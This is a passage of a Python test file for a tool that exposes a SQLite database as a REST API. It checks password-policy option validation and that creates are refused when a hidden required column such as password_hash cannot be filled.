    database: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    out = refused(monkeypatch, str(database), "--auth-table", "users",
                  "--auth-min-password-length", "20",
                  "--auth-max-password-bytes", "10")  # fmt: skip
    assert "password policy" in out
    assert "need --auth-table" in refused(
        monkeypatch, str(database), "--auth-min-password-length", "20"
    )
    text = NAMED_USERS.replace('roles = "roles"', 'roles = "roles"\nmin_password_length = "x"')
    with pytest.raises(ValueError, match="min_password_length is a whole number"):
        load_policy(write_policy(tmp_path, text))


def test_no_create_where_a_hidden_column_needs_a_value(tmp_path: Path) -> None:
    # A hidden NOT NULL column without a default: no request can fill it, so the API does
    # not offer creates that could only fail (with a 409 about a column the caller cannot
    # see); changes to existing rows stay.
    path = tmp_path / "logins.db"
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE logins (id INTEGER PRIMARY KEY, name TEXT NOT NULL,"
            " password_hash TEXT NOT NULL);"
            "CREATE TABLE keys (id INTEGER PRIMARY KEY, name TEXT NOT NULL,"
            " api_key TEXT NOT NULL DEFAULT 'none', reset_token TEXT);"
            "INSERT INTO logins (name, password_hash) VALUES ('ann', 'x');"
        )
    client = served(path)
    methods = {r["name"]: r["methods"] for r in client.get("/api").get_json()["resources"]}
    assert methods == {
        "logins": ["DELETE", "GET", "PATCH", "PUT"],
        "keys": ["DELETE", "GET", "PATCH", "POST", "PUT"],
    }
    assert client.post("/api/logins", json={"name": "bob"}).status_code == 405
    assert client.patch("/api/logins/1", json={"name": "anne"}).status_code == 200
    assert client.post("/api/keys", json={"name": "k"}).status_code == 201
    assert "post" not in client.get("/api/openapi.json").get_json()["paths"]["/api/logins"]
    with sqlite3.connect(path) as db:
        assert db.execute("SELECT name, password_hash FROM logins").fetchall() == [("anne", "x")]
    # Served (--show), the column can be sent: creates are offered again.
    shown = served(path, shown={"logins": ["password_hash"]})
    assert shown.post("/api/logins", json={"name": "bob", "password_hash": "y"}).status_code == 201
